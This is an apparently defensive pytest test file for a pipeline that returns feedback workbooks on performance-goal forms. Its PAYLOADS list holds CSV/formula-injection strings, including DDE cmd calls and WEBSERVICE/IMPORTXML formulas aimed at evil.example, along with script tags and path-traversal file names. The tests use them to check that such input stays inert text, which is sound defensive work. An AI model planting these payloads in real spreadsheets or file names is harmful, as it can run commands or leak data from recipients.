"""The two files of a feedback: complete, inert, the same for the same rows, for papers of every format."""

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from random import Random
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from perf_pipeline.forms.recognition import recognise
from perf_pipeline.intake.reading import read
from perf_pipeline.publishing.feedback.content import Answered
from perf_pipeline.publishing.feedback.document import SCHEMA
from perf_pipeline.publishing.feedback.spec import feedback_spec
from perf_pipeline.publishing.feedback.workbook import Composed, compose, file_stem
from perf_pipeline.publishing.sheets import safe_text
from perf_pipeline_tests.intake.readers.test_formats_agree import RENDERERS, WORKBOOKS
from perf_pipeline_tests.office import converted
from perf_pipeline_tests.paperwork import render_docx, render_pdf, render_text, render_xlsx
from perf_pipeline_tests.paperwork.laying_out import pages_of
from perf_pipeline_tests.publishing.feedback.papers import (
    answered,
    answered_of,
    finding,
    form,
    line,
    review,
    rich_workbook,
    sheet_book,
    submission,
)

ROOT = Path(__file__).resolve().parents[3]
SAMPLES = sorted((ROOT / "sample_inputs").iterdir())
FAULTY = "云岫县松涛镇2025年集镇路灯改造绩效目标表（待更正）.xlsx"
FORMATS: dict[str, Callable[[], bytes]] = {
    "xlsx": lambda: render_xlsx.workbook(pages_of(WORKBOOKS[FAULTY])),
    "docx": lambda: render_docx.document(pages_of(WORKBOOKS[FAULTY])),
    "pdf": lambda: render_pdf.pdf(pages_of(WORKBOOKS[FAULTY])),
    "txt": lambda: render_text.padded(pages_of(WORKBOOKS[FAULTY])).encode("gb18030"),
    "csv": lambda: render_text.comma_separated(pages_of(WORKBOOKS[FAULTY])).encode(),
    "doc": lambda: (ROOT / "perf_pipeline_tests/intake/readers/fixtures/described_goal.doc").read_bytes(),
    **{name: lambda draw=draw: draw(pages_of(WORKBOOKS[FAULTY]), False) for name, draw in RENDERERS.items()},
}
PAYLOADS = [
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example","x")', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "|calc", "%0A=1", '"=1+1', "'=1+1",
    '=WEBSERVICE("http://evil.example")', '=IMPORTXML("http://evil.example","//a")', "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "=1+1\x00", "\ufeff=1+1", "\u200b=1+1", "{=1+1}", "=A1:A2", "#REF!", "#N/A", "TRUE", "1e9", "0x10", "2024-01-01",
    "<script>alert(1)</script>", "</t></is></c><c><f>1</f></c>", "&lt;b&gt;", "]]>", "_x003D_1+1", "=&#49;", "\u202e=1+1", "字" * 40_000,
]  # fmt: skip


def book_of(composed: Composed) -> Workbook:
    """The workbook as openpyxl reads it."""
    return load_workbook(io.BytesIO(composed.workbook))


def document_of(composed: Composed) -> dict[str, Any]:
    """The JSON document."""
    found: dict[str, Any] = json.loads(composed.document)
    return found


def table_of(sheet: Any, header: str) -> list[dict[str, Any]]:
    """The rows under the header row that holds ``header``, down to the first row without a first cell."""
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    top = next(number for number, row in enumerate(rows) if header in row)
    found = []
    for row in rows[top + 1 :]:
        if row[0] is None:
            break
        found.append(dict(zip(rows[top], row, strict=True)))
    return found


def listed(composed: Composed) -> list[dict[str, Any]]:
    """The findings as the workbook lists them."""
    book = book_of(composed)
    if composed.kind == "rejected":
        return table_of(book.worksheets[0], "具体情况")
    return table_of(book[feedback_spec().sheets["findings"]], "具体情况")


def assert_complete(given: Answered, composed: Composed) -> None:
    """Each finding exactly once in the list, in the JSON document and, where it has a cell, in a comment."""
    document = document_of(composed)
    numbers = [int(row["序号"]) for row in listed(composed)]
    ids = sorted(row["finding_id"] for row in given.findings)
    assert numbers == list(range(1, len(ids) + 1))
    assert sorted(item["finding_id"] for item in document["findings"]) == ids
    assert [item["number"] for item in document["findings"]] == numbers
    assert sum(document["counts"][name] for name in ("error", "warning", "info")) == len(ids)
    if composed.kind == "marked":
        book = book_of(composed)
        comments = [c.comment.text for s in book for row in s.iter_rows() for c in row if c.comment]
        marked = [item for item in document["findings"] if item["marked_cell"]]
        assert [sum(f"[{item['number']}] " in text for text in comments) for item in marked] == [1] * len(
            marked
        )


def assert_cells_kept(content: bytes, composed: Composed) -> None:
    """Every cell of the filer's workbook says what it said, formulas as formulas."""
    after = book_of(composed)
    for sheet in load_workbook(io.BytesIO(content)):
        other = after[sheet.title]
        for row in sheet.iter_rows():
            for cell in row:
                found = other[cell.coordinate]
                assert (found.value, found.data_type, found.number_format) == (
                    cell.value,
                    cell.data_type,
                    cell.number_format,
                )
        assert other.merged_cells.ranges == sheet.merged_cells.ranges


@pytest.mark.parametrize("path", SAMPLES, ids=lambda path: path.name)
def test_every_sample_is_answered(path: Path) -> None:
    """Workbooks come back marked with all their cells, texts as tables, what is no form with its reason."""
    content = path.read_bytes()
    given = answered_of(content, path.name)
    composed = compose(given, content)
    kind = "rejected" if not given.forms else "marked" if path.suffix == ".xlsx" else "table"
    assert composed.kind == kind
    assert_complete(given, composed)
    if kind == "marked":
        assert_cells_kept(content, composed)


@pytest.mark.parametrize("format_", FORMATS)
def test_every_format_is_answered(format_: str) -> None:
    """Only xlsx can be marked; from every other format each line that was read stands in a table."""
    content = FORMATS[format_]()
    given = answered_of(content, f"表.{format_}")
    composed = compose(given, content)
    assert given.forms
    assert composed.kind == ("marked" if format_ == "xlsx" else "table")
    assert_complete(given, composed)
    if composed.kind == "table":
        names = [row["level3"] for row in given.lines]
        shown = [row["三级指标"] for row in table_of(book_of(composed)["读出内容1"], "三级指标")]
        assert shown == names[: len(shown)]
        assert len(shown) == sum(row["form_id"] == given.forms[0]["form_id"] for row in given.lines)


def test_a_workbook_with_everything_keeps_everything() -> None:
    """Formulas that stay inside, and all other cells, are those of the filer."""
    kept = rich_workbook()
    composed = compose(answered(findings=[finding(place="二!B2")]), kept)
    before, after = load_workbook(io.BytesIO(kept)), book_of(composed)
    assert composed.kind == "marked"
    for sheet in before:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.coordinate not in ("C3", "C4", "C5"):
                    assert after[sheet.title][cell.coordinate].value == cell.value


@pytest.mark.parametrize("path", [p for p in SAMPLES if p.suffix == ".xlsx"][:4], ids=lambda path: path.name)
def test_a_marked_workbook_reads_like_the_original(path: Path) -> None:
    """Who hands the marked workbook in again by mistake loses nothing: our sheets hold no form."""
    content = path.read_bytes()
    composed = compose(answered_of(content, path.name), content)
    assert recognise(read(composed.workbook, path.name)).forms == recognise(read(content, path.name)).forms


def test_a_file_that_was_not_accepted_is_told_why_on_one_sheet() -> None:
    """Reason and remedy, nothing else; the bytes are never opened."""
    rows = [finding(1, form_id=None, code="SEC-20", severity="error", place=None)]
    given = answered(submission=submission(status="rejected", format=None), forms=[], lines=[], findings=rows)
    composed = compose(given, b"anything")
    book = book_of(composed)
    assert (composed.kind, book.sheetnames) == ("rejected", ["反馈意见"])
    assert listed(composed)[0]["怎样处理"]
    assert_complete(given, composed)


def test_links_lead_to_marked_cells_only() -> None:
    """A place that can be found is a link inside the workbook; no link has an address."""
    rows = [finding(1), finding(2, place="line 5"), finding(3, place="没有这表!A1")]
    book = book_of(compose(answered(findings=rows), sheet_book({"C8": "更换路灯"})))
    links = [cell.hyperlink for row in book["问题清单"].iter_rows() for cell in row if cell.hyperlink]
    assert [(link.location, link.target) for link in links] == [("'表1'!C8", None)]


def test_a_repair_is_shown_with_both_readings() -> None:
    """The words as written and as read stand in the list and in the comment."""
    message = "该行单元格与表头错位：原样读作「指标值=盏」，按内容读作「计量单位=盏」"
    composed = compose(answered(findings=[finding(code="LAY-01", message=message)]), sheet_book({"C8": "甲"}))
    assert message in listed(composed)[0]["具体情况"]
    assert message in book_of(composed)["表1"]["C8"].comment.text


def test_review_results_are_shown_in_words() -> None:
    """Result, the four aspects, what could not be checked, and the reason."""
    book = book_of(compose(answered(reviews=[review()]), sheet_book({"C8": "甲"})))
    (row,) = table_of(book["反馈意见"], "建议结果")
    assert row["建议结果"] == "良（完善后通过）"
    assert row["四方面"] == "完整性 良；相关性 优；适当性 优；可行性 未评"
    assert "无法检查 2" in row["问题数量"]
    assert row["理由"] == "分值合计不符"


@pytest.mark.parametrize(
    ("findings", "words"),
    [
        ([finding(severity="error")], "1 处错误必须改正"),
        ([finding()], "请逐条确认"),
        ([finding(severity="info")], "没有发现需要改正或确认的问题"),
        ([], "没有发现问题"),
    ],
    ids=["errors", "warnings", "info", "clean"],
)
def test_the_first_sheet_says_what_to_do(findings: list[dict[str, Any]], words: str) -> None:
    """Mend, confirm, or nothing."""
    book = book_of(compose(answered(findings=findings), sheet_book({"C8": "甲"})))
    assert any(words in str(row[0]) for row in book["反馈意见"].iter_rows(values_only=True))


def test_many_findings_are_all_listed() -> None:
    """Nothing is capped, neither in the list nor in the comment of one cell."""
    rows = [finding(number, place="表1!C8" if number % 2 else f"表1!D{number}") for number in range(1, 601)]
    given = answered(findings=rows)
    assert_complete(given, compose(given, sheet_book({"C8": "甲"})))


def test_equal_rows_give_equal_bytes_in_any_order() -> None:
    """Both files depend on what is said only."""
    rows = {
        "lines": [line(), line(ordinal=2)],
        "findings": [finding(n) for n in range(1, 6)],
        "reviews": [review()],
    }
    turned = {name: part[::-1] for name, part in rows.items()}
    content = sheet_book({"C8": "甲"})
    assert compose(answered(**rows), content) == compose(answered(**turned), content)


def test_the_document_names_its_schema_and_the_workbook() -> None:
    """Programs can rely on names; docs/feedback.md lists them."""
    composed = compose(answered(reviews=[review()]), sheet_book({"C8": "甲"}), fingerprint="f" * 16)
    document = document_of(composed)
    page = (ROOT / "docs/feedback.md").read_text(encoding="utf-8")
    names = {
        name
        for part in (document, *(document[k] for k in ("submission", "workbook", "counts")))
        for name in part
    }
    for part in ("forms", "reviews", "findings"):
        names |= set(document[part][0])
    names |= set(document["forms"][0]["lines"][0])
    assert document["schema"] == SCHEMA
    assert document["workbook"]["file"] == f"{composed.name}.xlsx"
    assert [name for name in sorted(names) if f"`{name}`" not in page] == []


@pytest.mark.parametrize("failed", [False, True], ids=["broken", "failed"])
def test_a_workbook_that_cannot_be_marked_is_answered_with_a_table(failed: bool) -> None:
    """And says so."""
    composed = compose(answered(), b"no zip", failed=failed)
    reason = feedback_spec().cannot_mark["failed" if failed else "broken"]
    assert composed.kind == "table"
    assert reason in document_of(composed)["workbook"]["notes"]
    assert reason in [row[0] for row in book_of(composed)["反馈意见"].iter_rows(values_only=True)]


def hostile(payload: str) -> Answered:
    """A submission in which every text of others is ``payload``."""
    return answered(
        submission=submission(file_name=f"{payload}.txt", format="txt"),
        forms=[form(title=payload, organization_name=payload, project_name=payload, place=payload,
                    heading=json.dumps({"objective": payload}))],
        lines=[line(**dict.fromkeys(("level1", "level2", "level3", "target_text", "rule_text", "remark", "place"), payload))],
        findings=[finding(message=payload, quote=payload, place=payload)],
        reviews=[review(reason=payload, completeness=payload)],
    )  # fmt: skip


def texts(book: Workbook) -> dict[tuple[str, str], tuple[Any, str]]:
    """Every cell with its type."""
    return {
        (sheet.title, cell.coordinate): (cell.value, cell.data_type)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_hostile_text_stays_text(payload: str) -> None:
    """No cell is a formula, none a link, the words are kept as far as a workbook can hold them."""
    composed = compose(hostile(payload))
    book = book_of(composed)
    found = texts(book)
    assert [key for key, (_, kind) in found.items() if kind not in ("s", "n")] == []
    assert safe_text(payload, feedback_spec().words["cut"]) in {value for value, _ in found.values()}
    assert all(
        c.hyperlink is None or c.hyperlink.target is None for s in book for r in s.iter_rows() for c in r
    )


def test_hostile_text_stays_text_in_libreoffice(tmp_path: Path) -> None:
    """Reopened and saved by another program, the payloads are still words."""
    shown = [payload for payload in PAYLOADS if len(payload) < 100 and payload == safe_text(payload)]
    rows = [finding(number, message=payload, quote=payload) for number, payload in enumerate(shown, 1)]
    marked = compose(answered(findings=rows), sheet_book({"C8": "甲"}))
    reopened = converted(marked.workbook, "xlsx", "xlsx", tmp_path)
    assert reopened is not None
    found = texts(load_workbook(io.BytesIO(reopened)))
    words = {str(value).replace("\r", "\n") for value, _ in found.values()}
    assert [key for key, (_, kind) in found.items() if kind == "f"] == []
    assert [payload for payload in shown if payload not in words] == []


@pytest.mark.parametrize("name", ["=1+1", "a'b", "x]y[", "<b>", "..\\..\\x", "字" * 31], ids=range(6))
def test_sheets_with_hostile_names_are_marked_and_linked(name: str) -> None:
    """Names of the filer's sheets are quoted in links and stay his."""
    safe = name.translate(str.maketrans("\\[]", "___"))
    composed = compose(answered(findings=[finding(place=f"{safe}!C8")]), sheet_book({"C8": "甲"}, safe))
    book = book_of(composed)
    assert book.sheetnames[2:] == [safe]
    assert book[safe]["C8"].comment is not None


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd.xlsx",
        "..\\x.xlsx",
        "a\x00b.xlsx",
        ".隐藏.xlsx",
        "CON:1.xlsx",
        "\u202exslx.exe",
        "字" * 300,
        "",
    ],
    ids=range(8),
)
def test_file_names_are_safe(name: str) -> None:
    """No separator, no control character, no leading dot, short enough, and always told apart by the hash."""
    stem = file_stem(name, "ab" * 32)
    assert stem.endswith("_abababababab")
    assert not set(stem) & set('/\\:*?"<>|\x00\u202e')
    assert not stem.startswith(".")
    assert len(f"{stem}.json".encode()) <= 255


def test_the_package_holds_no_times() -> None:
    """Every entry of the zip has the same time."""
    composed = compose(answered(), sheet_book({"C8": "甲"}))
    entries = zipfile.ZipFile(io.BytesIO(composed.workbook)).infolist()
    assert {entry.date_time for entry in entries} == {(1980, 1, 1, 0, 0, 0)}


def _spoiled(content: bytes, rng: Random) -> bytes:
    """The workbook with one of its parts damaged at a few places."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    victim = rng.choice(sorted(parts))
    damaged = bytearray(parts[victim])
    for _ in range(rng.randint(1, 6)):
        at = rng.randrange(len(damaged) or 1)
        damaged[at : at + rng.choice((0, 1, 20))] = rng.choice(
            (b"", b"<a>", b'"', b"-1", b"99999999999", b"\x00", b"x")
        )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, part in (parts | {victim: bytes(damaged)}).items():
            archive.writestr(name, part)
    return out.getvalue()


def test_damaged_workbooks_are_marked_or_answered_with_a_table() -> None:
    """Sixty random damages: never an exception, never a finding lost, and both ends occur."""
    rng, given, content = Random(5), answered(findings=[finding(place="二!B2")]), rich_workbook()
    composed = [compose(given, _spoiled(content, rng)) for _ in range(60)]
    assert {one.kind for one in composed} == {"marked", "table"}
    assert {len(document_of(one)["findings"]) for one in composed} == {1}
